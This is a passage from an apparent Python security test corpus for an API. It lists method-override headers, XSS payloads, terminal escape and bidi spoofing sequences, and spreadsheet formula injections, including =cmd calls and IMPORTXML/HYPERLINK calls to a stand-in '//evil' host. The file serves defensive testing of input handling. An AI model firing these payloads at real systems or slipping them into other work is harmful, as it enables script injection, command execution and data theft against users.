        yield _asked(23, f"X-Request-Id: {shown}", "usage", HARMLESS | MALFORMED, ("X-Request-Id", strange))
    for override in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"):
        for method in ("DELETE", "PATCH"):
            yield _asked(23, f"{override}: {method}", "keys.get", HARMLESS, (override, method))
            yield _asked(23, f"{override}: {method}", "jobs.get", HARMLESS, (override, method))
    for query in (
        "_method=DELETE",
        "method=DELETE",
        "x-http-method-override=DELETE",
        "validate_only=false",
        "admin=true",
    ):
        yield Attempt(23, query, "keys.list", "GET", f"/v1/keys?{query}", INVALID)
    for query in ("page_size=1&page_size=2", "page_token=&page_token=x", "state=QUEUED&state=DONE"):
        yield Attempt(23, query, "jobs.list", "GET", f"/v1/jobs?{query}", INVALID | HARMLESS)


# 24 and 25: what is kept, as it came

_SCRIPTS = [
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)"),
    *('"><script>alert(1)</script>', "' onmouseover='alert(1)", "</title><script>1</script>", "<iframe src=//evil>"),
    *("{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<!--", "]]>", "&lt;script&gt;", "%3Cscript%3E"),
    *(
        "<a href=//evil>x</a>",
        "\u2028alert(1)",
        "<scr\u200bipt>",
        "＜script＞",
        "\\u003cscript\\u003e",
        "[x](javascript:1)",
    ),
    *("\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;http://evil\x07x\x1b]8;;\x07", "\x1b[31mFAILED\x1b[0m", "\x9b2J"),
    *("\x1bP+q544e\x1b\\", "\x1b]52;c;ZXZpbA==\x07", "\x1b[6n", "\x1b[?1049h", "a\rSUCCEEDED", "a\x08\x08b", "\x07"),
    *("\u202egnp.exe", "\u2066x\u2069", "a\u2067b\u2069c", "\x85forged", "\x0bx\x0cy", "\u2029x", "[bold red]x[/]"),
]
_FORMULAS = [
    *("=cmd|'/C calc'!A0", '=HYPERLINK("//evil","x")', "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "|cmd"),
    *('=IMPORTXML("//evil","x")', "＝1+1", "%0A=1+1", '=1+1";="x'),
]
KEPT: tuple[tuple[int, str], ...] = (*((24, word) for word in _SCRIPTS), *((25, word) for word in _FORMULAS))
"""Texts that may stand in a label or a name: kept, given back as they came, and never as anything but JSON."""


CORPUS: tuple[Attempt, ...] = (
    *_paths(),
    *_locations(),
    *_code(),
    *_json(),
    *_addresses(),
    *_keyless(),
    *_elsewhere(),
    *_ranges(),
    *_numbers(),
    *_sql(),
    *_headers(),
)


def inputs(attempts: Sequence[Attempt]) -> set[tuple[int, str]]:
    """What is sent, however often and wherever."""
    return {(attempt.attack, attempt.input) for attempt in attempts}
